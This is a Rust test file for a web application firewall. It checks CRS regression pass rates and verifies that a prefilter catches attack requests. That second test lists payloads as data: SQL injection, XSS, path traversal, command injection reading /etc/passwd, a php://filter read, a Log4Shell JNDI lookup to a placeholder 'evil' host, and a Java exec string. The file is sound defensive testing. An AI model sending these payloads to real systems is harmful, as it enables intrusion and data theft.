//! CRS regression conformance as a gate: families 920–944 must keep the
//! pass rates measured for this engine, and the prefilter must never skip a
//! regex that would have matched. The `crs_conformance` example prints the
//! full per-family report and every failure.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use ironcart_waf::{Context, Request};
use support::ftw;

/// Measured 3039/3039 (100.0%).
const EXPECT_FLOOR_PERCENT: f64 = 99.9;
/// Measured 781/785 (99.5%).
const NO_EXPECT_FLOOR_PERCENT: f64 = 99.4;

#[test]
fn crs_regression_families_920_to_944_keep_their_pass_rates() {
    let waf = ftw::crs_waf();
    let results = ftw::run_suite(&waf, &["REQUEST-92", "REQUEST-93", "REQUEST-94"]);
    let mut total = ftw::Tally::default();
    for (family, tally) in ftw::tallies(&results) {
        println!(
            "{family}: expect {}/{} no_expect {}/{}",
            tally.expect_pass, tally.expect_total, tally.no_expect_pass, tally.no_expect_total
        );
        total.merge(&tally);
    }
    assert!(
        total.expect_total > 3000,
        "only {} expect cases ran",
        total.expect_total
    );
    assert!(
        total.no_expect_total > 700,
        "only {} no_expect cases ran",
        total.no_expect_total
    );
    assert!(
        total.expect_rate() >= EXPECT_FLOOR_PERCENT,
        "expect_ids pass rate fell to {:.2}%",
        total.expect_rate()
    );
    assert!(
        total.no_expect_rate() >= NO_EXPECT_FLOOR_PERCENT,
        "no_expect_ids pass rate fell to {:.2}%",
        total.no_expect_rate()
    );
}

#[test]
fn prefilter_never_hides_a_regex_match_on_attack_traffic() {
    let waf = ftw::crs_waf();
    let attacks = [
        "/?q=1'%20UNION%20SELECT%20password%20FROM%20users--",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?f=....//....//etc/passwd",
        "/?c=;cat%20/etc/passwd",
        "/?p=php://filter/convert.base64-encode/resource=index",
        "/?x=${jndi:ldap://evil/a}",
        "/?s=java.lang.Runtime.getRuntime().exec",
    ];
    for target in attacks {
        let request = Request::new("GET", target)
            .header("User-Agent", "curl/8")
            .header("Accept", "*/*");
        assert_eq!(
            waf.prefilter_misses(&request, &Context::anonymous()),
            0,
            "{target}"
        );
        assert!(
            !waf.inspect(&request, &Context::anonymous())
                .matched
                .is_empty(),
            "{target}"
        );
    }
}
